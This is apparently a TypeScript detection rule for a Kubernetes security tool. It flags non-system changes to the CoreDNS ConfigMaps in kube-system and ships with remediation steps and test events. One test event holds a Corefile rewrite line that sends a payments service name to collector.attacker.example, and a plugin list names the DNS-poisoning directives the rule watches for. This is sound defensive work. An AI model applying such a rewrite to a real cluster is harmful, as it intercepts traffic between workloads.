import { type AuditEvent } from '../../../kubernetes/auditEvent';
import { asObject, asString } from '../../../kubernetes/jsonValues';
import { objectName, writtenObject } from '../../../kubernetes/workloads';
import { auditEvent } from '../../exampleEvents';
import { isSystemRequest } from '../../predicates/identities';
import { isResource, isWrite, namespaceOf, succeeded } from '../../predicates/requests';
import { redactText } from '../../redaction';
import { requestEntities } from '../../requestEntities';
import { defineRule, Intent, Severity } from '../../rule';

const KUBE_SYSTEM = 'kube-system';
/** CoreDNS's own configuration and AKS's supported customization ConfigMap. */
const COREDNS_CONFIGMAPS: ReadonlySet<string> = new Set(['coredns', 'coredns-custom']);
/** Corefile plugins that answer or send names elsewhere: what a DNS poisoning uses. */
const REDIRECTING_PLUGINS: ReadonlySet<string> = new Set(['rewrite', 'hosts', 'forward', 'template', 'file', 'auto']);

function isCoreDnsConfigMap(event: AuditEvent): boolean {
  const name = objectName(event);
  return namespaceOf(event) === KUBE_SYSTEM && name !== undefined && COREDNS_CONFIGMAPS.has(name);
}

/** The data keys the request wrote (names only) and the redirecting plugins their Corefile snippets use. */
function writtenConfiguration(event: AuditEvent): { keys: string[]; plugins: string[] } {
  const data = asObject(writtenObject(event)?.data);
  const keys = Object.keys(data ?? {});
  const plugins = new Set<string>();
  for (const value of Object.values(data ?? {})) {
    for (const line of (asString(value) ?? '').split('\n')) {
      const word = line.trim().split(/[\s{]/, 1)[0] ?? '';
      if (REDIRECTING_PLUGINS.has(word)) plugins.add(word);
    }
  }
  return { keys, plugins: [...plugins] };
}

const corefile = (extra: string): string =>
  `.:53 {\n    errors\n    ready\n    health\n    kubernetes cluster.local in-addr.arpa ip6.arpa {\n      pods insecure\n      fallthrough in-addr.arpa ip6.arpa\n    }\n${extra}    forward . /etc/resolv.conf\n    cache 30\n    loop\n    reload\n}\n`;

export const corednsModified = defineRule({
  id: 'coredns-modified',
  alertType: 'K8S_CoreDnsModification',
  displayName: 'CoreDNS configuration modified',
  description:
    'A user or workload that is not part of the cluster created, changed or deleted the CoreDNS configuration (ConfigMap coredns ' +
    'or coredns-custom in kube-system). Every pod resolves names through CoreDNS: whoever changes its configuration can send ' +
    'service names to addresses of their choice (rewrite, hosts, forward) and intercept traffic between workloads, or break ' +
    'name resolution for the whole cluster.',
  severity: Severity.Low,
  intent: Intent.LateralMovement,
  techniques: ['T1557', 'T1565.001'],
  remediation: [
    'Compare the new configuration with the previous one: look for rewrite, hosts, template or forward entries that send cluster or external names to unexpected addresses.',
    'If the change is not expected, restore the previous configuration (on AKS, delete or fix coredns-custom; AKS restores coredns itself) and restart CoreDNS (`kubectl -n kube-system rollout restart deployment coredns`).',
    'Restrict write access to ConfigMaps in kube-system to the platform and its administrators.',
  ],
  falsePositives: [
    'Creating or editing coredns-custom is the supported way to customize DNS on AKS (stub domains, forwarders, hosts entries): administrators do it on purpose, and Defender alerts on it all the same.',
    'GitOps or infrastructure pipelines that manage coredns-custom under their own identity.',
  ],
  references: [
    'https://learn.microsoft.com/azure/aks/coredns-custom',
    'https://kubernetes.io/docs/tasks/administer-cluster/dns-custom-nameservers/',
    'https://learn.microsoft.com/azure/defender-for-cloud/alerts-containers',
    'https://attack.mitre.org/techniques/T1557/',
  ],
  equivalents: {
    defender: ['K8S_CoreDnsModification'],
    falco: [],
    guardDuty: [],
    elastic: ['Kubernetes CoreDNS or Kube-DNS Configuration Modified'],
  },
  resources: ['configmaps'],
  match: (event, context) =>
    (isWrite(event) || event.verb === 'delete') &&
    isResource(event, 'configmaps') &&
    succeeded(event) &&
    isCoreDnsConfigMap(event) &&
    !isSystemRequest(event, context),
  entities: (event) => requestEntities(event),
  details: (event) => {
    const details: Record<string, string> = { configMap: `${KUBE_SYSTEM}/${objectName(event) ?? ''}`, verb: event.verb };
    if (event.verb !== 'delete') {
      const { keys, plugins } = writtenConfiguration(event);
      if (keys.length > 0) details.dataKeys = redactText(keys.join(', '));
      if (plugins.length > 0) details.redirectingPlugins = plugins.join(', ');
    }
    return details;
  },
  dedupKey: (event) => `${objectName(event) ?? ''}|${event.user.username}`,
  examples: [
    {
      name: 'a developer adds a rewrite rule to the Corefile',
      expect: 'alert',
      event: auditEvent({
        verb: 'patch',
        resource: 'configmaps',
        namespace: KUBE_SYSTEM,
        name: 'coredns',
        requestObject: { data: { Corefile: corefile('    rewrite name payments.shop.svc.cluster.local collector.attacker.example\n') } },
      }),
    },
    {
      name: 'an administrator creates coredns-custom with a forwarder',
      expect: 'alert',
      event: auditEvent({
        verb: 'create',
        resource: 'configmaps',
        namespace: KUBE_SYSTEM,
        requestObject: {
          apiVersion: 'v1',
          kind: 'ConfigMap',
          metadata: { name: 'coredns-custom', namespace: KUBE_SYSTEM },
          data: { 'contoso.server': 'contoso.local:53 {\n    errors\n    cache 30\n    forward . 10.0.0.10\n}\n' },
        },
      }),
    },
    {
      name: 'a workload deletes coredns-custom',
      expect: 'alert',
      event: auditEvent({ verb: 'delete', resource: 'configmaps', namespace: KUBE_SYSTEM, name: 'coredns-custom', user: 'system:serviceaccount:shop:web' }),
    },
    {
      name: 'the AKS addon manager reconciles the coredns ConfigMap',
      expect: 'none',
      event: auditEvent({
        verb: 'update',
        resource: 'configmaps',
        namespace: KUBE_SYSTEM,
        name: 'coredns',
        user: 'system:serviceaccount:kube-system:addon-manager',
        requestObject: { apiVersion: 'v1', kind: 'ConfigMap', metadata: { name: 'coredns', namespace: KUBE_SYSTEM }, data: { Corefile: corefile('') } },
      }),
    },
    {
      name: 'a developer updates a ConfigMap named coredns in their own namespace',
      expect: 'none',
      event: auditEvent({
        verb: 'update',
        resource: 'configmaps',
        namespace: 'shop',
        name: 'coredns',
        requestObject: { apiVersion: 'v1', kind: 'ConfigMap', metadata: { name: 'coredns', namespace: 'shop' }, data: { Corefile: corefile('') } },
      }),
    },
    {
      name: 'a developer updates another kube-system ConfigMap',
      expect: 'none',
      event: auditEvent({
        verb: 'update',
        resource: 'configmaps',
        namespace: KUBE_SYSTEM,
        name: 'azure-ip-masq-agent-config',
        requestObject: { apiVersion: 'v1', kind: 'ConfigMap', metadata: { name: 'azure-ip-masq-agent-config', namespace: KUBE_SYSTEM }, data: {} },
      }),
    },
    {
      name: 'a Corefile change that RBAC refused',
      expect: 'none',
      event: auditEvent({ verb: 'patch', resource: 'configmaps', namespace: KUBE_SYSTEM, name: 'coredns', code: 403, requestObject: { data: { Corefile: corefile('') } } }),
    },
  ],
});
